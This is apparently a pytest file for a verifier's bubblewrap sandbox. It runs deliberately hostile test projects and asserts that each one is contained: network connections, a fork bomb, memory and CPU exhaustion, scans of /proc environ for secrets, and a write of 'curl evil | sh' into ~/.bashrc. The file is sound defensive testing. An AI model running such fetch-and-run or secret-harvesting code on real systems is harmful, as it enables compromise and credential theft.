"""Hostile projects, each run for real in bubblewrap: contained, named, and the next run
still served. Every resource limit is small so that a run meets it in a few seconds; the
wall clock is generous (pytest starting on a loaded machine can take seconds) except in
the tests about the deadline."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import os
import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from contracts.verification import MAX_OUTPUT_TAIL_CHARS, VerifyResult
from services.verifier.checks import verify
from services.verifier.runtime import Runtime, load_runtime
from services.verifier.sandbox import Capture, Sandbox
from tests.verifier.helpers import (
    DEADLINE_LIMITS,
    FORK_BOMB,
    LIMITS,
    SECRETS,
    host_snapshot,
    make_sandbox,
    outside_paths,
    project,
)

# Above the 60 s wall limit of a run, so that a run that is too slow is named by the sandbox.
pytestmark = pytest.mark.timeout(180)


@pytest.fixture
def sandbox() -> Sandbox:
    return make_sandbox()


async def run(sandbox: Sandbox, files: dict[str, str]) -> VerifyResult:
    before = host_snapshot(outside_paths())
    result = await verify(
        files, sandbox, generation_id="g-hostile", project_id="p-1", round=0, verifier="test"
    )
    assert host_snapshot(outside_paths()) == before, "a run changed something outside"
    # The verifier still serves the next run.
    after = await sandbox.run([str(sandbox.runtime.python), "-c", "print('next')"], Path("/"))
    assert after.exit_code == 0 and after.stdout == "next\n"
    return result


def only_failure(result: VerifyResult) -> str:
    assert result.outcome == "completed", result.reason
    [failure] = result.failures
    return failure.message


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    yield server
    server.close()


async def test_nothing_can_connect_to_loopback_or_outside(
    sandbox: Sandbox, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    result = await run(
        sandbox,
        project(f"""
            import socket

            def test_loopback():
                socket.create_connection(("127.0.0.1", {port}), timeout=2)

            def test_outside():
                socket.create_connection(("1.1.1.1", 80), timeout=2)
        """),
    )

    assert (result.passed, result.failed) == (0, 2)
    messages = {f.test_id.split("::")[-1]: f.message for f in result.failures}
    assert "Connection refused" in messages["test_loopback"]
    assert "Network is unreachable" in messages["test_outside"]
    with pytest.raises(TimeoutError):
        listener.accept()  # nothing ever reached the host's port


async def test_a_fork_bomb_meets_the_process_limit(sandbox: Sandbox) -> None:
    result = await run(
        sandbox,
        FORK_BOMB,
    )

    assert result.failed == 1 and not result.timed_out
    assert "fork refused after" in only_failure(result)
    assert "Resource temporarily unavailable" in only_failure(result)


async def test_an_endless_loop_is_killed_at_the_deadline(sandbox: Sandbox) -> None:
    result = await run(
        make_sandbox(DEADLINE_LIMITS), project("def test_spin():\n    while True:\n        pass\n")
    )

    assert result.outcome == "completed" and result.timed_out
    assert "did not finish within 4 s" in result.reason
    assert result.exit_code is None


async def test_allocating_8_gib_fails(sandbox: Sandbox) -> None:
    result = await run(sandbox, project("def test_big():\n    b = bytearray(8 * 1024**3)\n"))

    assert "MemoryError" in only_failure(result)


async def test_writes_outside_the_work_directory_stay_in_the_sandbox(sandbox: Sandbox) -> None:
    result = await run(
        sandbox,
        project("""
            import os, pytest

            def test_writes():
                with open(os.path.expanduser("~/.bashrc"), "a") as fh:
                    fh.write("curl evil | sh")
                for target in ("/tmp/x", "../../x", "/dev/shm/x"):
                    with pytest.raises(OSError, match="Read-only file system|Permission denied"):
                        open(target, "w")
                for target in ("/usr/x", "/sandbox/source/x", "/x"):
                    with pytest.raises(OSError):
                        open(target, "w")
        """),
    )

    assert (result.passed, result.failed, result.errors) == (1, 0, 0), result.failures


PROBE = """
import os
places = {line.split()[4] for line in open("/proc/self/mountinfo")}
places |= {"/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/root", "/run", "/etc", "/usr"}
places |= {os.environ["HOME"], os.environ["TMPDIR"], os.getcwd()}
writable = []
for place in sorted(places):
    try:
        with open(os.path.join(place, ".kiln-probe"), "w") as fh:
            fh.write("x")
    except OSError:
        continue
    writable.append(place)
print(" ".join(writable))
"""


def _probe_project(folder: Path) -> Path:
    """A project of one script, readable by the run's uid (as the verifier leaves one)."""
    (folder / "probe.py").write_text(PROBE)
    folder.chmod(0o755)
    (folder / "probe.py").chmod(0o644)
    return folder


@pytest.mark.parametrize("writable", [False, True], ids=["read-only run", "run that writes"])
async def test_only_the_runs_own_tmpfs_is_writable(
    sandbox: Sandbox, writable: bool, tmp_path: Path
) -> None:
    """A run may write in one place only, the scratch tmpfs holding its copy of the project
    and its temporary directory and home; a read-only run (compile, lint) nowhere."""
    ran = await sandbox.run(
        [str(sandbox.runtime.python), "probe.py"], _probe_project(tmp_path), writable=writable
    )

    assert ran.exit_code == 0, ran.stderr
    expected = "/sandbox /sandbox/project /sandbox/tmp" if writable else ""
    assert ran.stdout.strip() == expected


async def test_200_mb_of_output_is_capped(sandbox: Sandbox) -> None:
    result = await run(
        sandbox,
        project("""
            import sys

            def test_loud(capsys):
                with capsys.disabled():
                    chunk = "x" * (1024 * 1024)
                    for _ in range(200):
                        sys.stdout.write(chunk)
        """),
    )

    assert result.passed == 1
    assert len(result.output_tail) <= MAX_OUTPUT_TAIL_CHARS


async def test_no_secret_of_the_verifier_reaches_the_run(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    secrets = list(SECRETS.values())
    result = await run(
        sandbox,
        project(f"""
            import glob, os

            SECRETS = {secrets!r}

            def test_look():
                seen = [str(os.environ)]
                for path in glob.glob("/proc/*/environ"):
                    try:
                        seen.append(open(path, "rb").read().decode(errors="replace"))
                    except OSError:
                        pass
                found = [s for s in SECRETS if any(s in text for text in seen)]
                assert not found
                assert "GEMINI_API_KEY" not in os.environ and "NATS_URL" not in os.environ
        """),
    )

    assert (result.passed, result.failed) == (1, 0), result.failures


def _processes_with(token: str) -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if token.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
    return found


async def test_a_child_ignoring_sigterm_dies_at_the_deadline() -> None:
    token = f"kiln-sleeper-{os.getpid()}"
    result = await run(
        make_sandbox(DEADLINE_LIMITS),
        project(f"""
            import subprocess, sys, time

            def test_sleep():
                code = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
                subprocess.Popen([sys.executable, "-c", code, "{token}"], start_new_session=True)
                time.sleep(600)
        """),
    )

    assert result.timed_out
    assert _processes_with(token) == []


def test_capture_keeps_head_and_tail() -> None:
    capture = Capture(100)
    for i in range(1000):
        capture.feed(f"{i:04d}\n".encode())

    text = capture.text()
    assert text.startswith("0000\n0001\n")
    assert text.endswith("0998\n0999\n")
    assert "bytes not kept" in text
    assert capture.total == 5000
    assert len(text) < 200


async def test_a_runtime_kept_under_tmp_is_still_seen_inside(tmp_path: Path) -> None:
    """A checkout (and so its .venv-verify) under /tmp: the sandbox's own /tmp must not hide
    it, even below a directory only root may enter."""
    private = tmp_path / "checkout"
    private.mkdir(mode=0o700)
    runtime = private / ".venv-verify"
    real = load_runtime()
    proc = await asyncio.create_subprocess_exec(
        str(real.base_prefix / "bin" / "python3"), "-m", "venv", "--without-pip", str(runtime)
    )
    assert await proc.wait() == 0
    kept = Runtime(path=runtime, base_prefix=real.base_prefix, distributions=real.distributions)
    sandbox = Sandbox(kept, LIMITS, slots=1)
    ran = await sandbox.run([str(sandbox.runtime.python), "-c", "print('here')"], Path("/"))
    assert (ran.exit_code, ran.stdout) == (0, "here\n"), ran.stderr


async def test_a_process_over_its_cpu_seconds_gets_sigxcpu() -> None:
    # Each process of the run has the limit of its own; pytest stays well below 3 s.
    result = await run(
        make_sandbox(dataclasses.replace(LIMITS, cpu_s=3)),
        project("""
            import signal, subprocess, sys

            def test_spin():
                spin = subprocess.run([sys.executable, "-c", "while True: pass"])
                assert spin.returncode != -signal.SIGXCPU, "killed by SIGXCPU"
        """),
    )

    assert result.failed == 1 and not result.timed_out
    assert "killed by SIGXCPU" in only_failure(result)


async def test_writing_past_the_file_size_limit_is_too_large(sandbox: Sandbox) -> None:
    limit = LIMITS.disk_bytes
    result = await run(
        sandbox,
        project(f"""
            import tempfile

            def test_grow():
                for path in (tempfile.gettempdir() + "/big", "big"):
                    with open(path, "wb") as fh:
                        fh.seek({limit} - 1)
                        fh.write(b"x")  # the last byte allowed
                        fh.flush()
                        fh.write(b"x")
                        fh.flush()
        """),
    )

    assert "File too large" in only_failure(result)


async def test_opening_more_files_than_allowed_is_refused(sandbox: Sandbox) -> None:
    result = await run(
        sandbox,
        project("""
            def test_open():
                files = []
                try:
                    while True:
                        files.append(open("/dev/null"))
                except OSError as exc:
                    for fh in files:  # pytest itself needs some to write its report
                        fh.close()
                    raise AssertionError(f"refused after {len(files)}: {exc}")
        """),
    )

    message = only_failure(result)
    assert "Too many open files" in message
    counted = re.search(r"refused after (\d+): \[Errno 24\]", message)
    assert counted and 400 < int(counted[1]) < LIMITS.open_files, message


async def test_the_verify_runtime_is_read_only_inside(sandbox: Sandbox) -> None:
    runtime = sandbox.runtime.path
    [pytest_init] = runtime.glob("lib/python3*/site-packages/pytest/__init__.py")
    watched = [pytest_init, runtime / "planted"]
    before = host_snapshot(watched)
    result = await run(
        sandbox,
        project(f"""
            import os, sys, pytest

            RUNTIME = {str(runtime)!r}

            def test_tamper():
                assert sys.prefix == RUNTIME
                # Its own read-only mount, not only files the run's uid may not write.
                mounts = [line.split() for line in open("/proc/self/mountinfo")]
                [options] = [m[5] for m in mounts if m[4] == RUNTIME]
                assert "ro" in options.split(","), options
                with pytest.raises(OSError, match="Read-only file system"):
                    open(os.path.join(RUNTIME, "planted"), "w")
                for write in (
                    lambda: open({str(pytest_init)!r}, "a"),
                    lambda: os.remove({str(pytest_init)!r}),
                ):
                    with pytest.raises(OSError):
                        write()
        """),
    )

    assert (result.passed, result.failed, result.errors) == (1, 0, 0), result.failures
    assert host_snapshot(watched) == before
